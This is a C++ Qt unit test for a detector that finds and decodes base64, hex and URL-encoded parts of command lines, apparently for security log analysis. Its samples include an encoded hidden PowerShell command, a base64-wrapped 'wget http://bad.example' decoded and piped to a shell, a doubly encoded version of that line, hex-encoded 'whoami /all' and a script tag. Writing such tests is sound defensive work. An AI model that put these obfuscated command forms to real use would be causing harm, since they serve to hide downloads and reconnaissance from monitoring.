// Encoded parts of command lines and requests, and texts that only look like some.

#include "core/query/encoded_parts.h"

#include <QtTest>

using namespace anomalyst::query;

namespace
{

std::string told(std::string_view text)
{
    std::string told;
    for (const EncodedPart &part : findEncodedParts(text)) {
        told += std::string(encodingName(part.encoding)) + (part.isUtf16 ? " utf16" : "") + ":" + part.decoded + "|";
        for (const EncodedPart &inner : part.within)
            told += std::string(encodingName(inner.encoding)) + ">" + inner.decoded + "|";
    }
    return told;
}

} // namespace

class EncodedPartsTest : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void anEncodedCommandOfPowerShellIsUtf16()
    {
        const QString script = QStringLiteral("Get-Process | Out-File C:\\temp\\ü.txt");
        const QByteArray bytes(reinterpret_cast<const char *>(script.utf16()), script.size() * 2);
        const std::string line = "powershell -nop -enc " + bytes.toBase64().toStdString() + " -w hidden";
        QCOMPARE(told(line), "base64 utf16:" + script.toStdString() + "|");
        const EncodedPart part = findEncodedParts(line).front();
        QCOMPARE(line.substr(part.begin, part.length), bytes.toBase64().toStdString());
    }

    void textsInBase64AreFoundWithAndWithoutPadding()
    {
        QCOMPARE(told("echo d2dldCBodHRwOi8vYmFkLmV4YW1wbGU= | base64 -d"),
                 std::string("base64:wget http://bad.example|"));
        QCOMPARE(told("x=d2dldCBodHRwOi8vYmFkLmV4YW1wbGU;"), std::string("base64:wget http://bad.example|"));
    }

    void digitsAndEscapesInHexAreFound()
    {
        QCOMPARE(told("printf \\x68\\x65\\x6c\\x6c\\x6f"), std::string("hex:hello|"));
        QCOMPARE(told("0x77686f616d69202f616c6c"), std::string("hex:whoami /all|"));
        QCOMPARE(told("proctitle=6C73002D6C61 77686f616d69202f616c6c"), std::string("hex:whoami /all|"));
    }

    void escapesOfUrlsAreFound()
    {
        QCOMPARE(told("GET /a?q=%3Cscript%3E%20x HTTP/1.1"), std::string("URL:/a?q=<script> x|"));
        QCOMPARE(told("/caf%C3%A9"), std::string("URL:/caf\u00e9|"));
    }

    void whatWasDecodedIsSearchedAgain()
    {
        const QByteArray inner = QByteArrayLiteral("run ") + QByteArrayLiteral("wget http://bad.example").toBase64();
        QCOMPARE(told("sh " + inner.toBase64().toStdString()),
                 "base64:" + inner.toStdString() + "|base64>wget http://bad.example|");
    }

    void longTextsThatLookEncodedTakeNoTime()
    {
        std::string dashes, escapes;
        for (int i = 0; i < 200'000; ++i) {
            dashes += "-a";
            escapes += "\\x01";
        }
        QVERIFY(findEncodedParts(dashes).empty());
        QVERIFY(findEncodedParts(escapes).empty());
    }

    void plainTextIsLeftAlone_data()
    {
        QTest::addColumn<QString>("text");
        for (const char *text :
             {"", "C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s Schedule",
              "/usr/lib/python3/dist-packages/apt/helper/something/longer",
              "S-1-5-21-1004336348-1177238915-682003330-512", "52b1ab41-869e-4138-9e40-2a4457f09bf0",
              "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
              "%SystemRoot%\\system32 %APPDATA% %ADDRESS% %%1936 100%", "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
              "aVeryLongIdentifierInCamelCaseThatGoesOn", "=====%%%%\\x\\x4", "%", "\\x"})
            QTest::newRow(text) << QString::fromUtf8(text);
    }
    void plainTextIsLeftAlone()
    {
        QFETCH(QString, text);
        QCOMPARE(told(text.toStdString()), std::string());
    }
};

QTEST_GUILESS_MAIN(EncodedPartsTest)
#include "tst_encoded_parts.moc"
